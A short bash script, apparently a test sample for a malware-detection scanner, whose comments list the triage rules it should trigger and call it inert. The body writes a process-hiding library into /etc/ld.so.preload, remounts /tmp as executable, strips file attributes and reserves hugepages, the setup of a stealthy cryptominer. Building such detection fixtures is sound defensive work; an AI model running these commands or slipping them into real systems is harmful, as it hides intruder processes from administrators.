#!/bin/bash
# triage-expect: triage_ld_preload_loader triage_linux_defense_evasion_script
# inert: the process-hiding library's path is written with quotes around the target file
hide() {
  sed -i '/libhider/d' /etc/ld.so.preload
  echo "/usr/local/lib/libhider.so" >> "/etc/ld.so.preload"
}
mount -o remount,exec /tmp
chattr -iau /tmp
sysctl -w vm.nr_hugepages=$(nproc)
hide
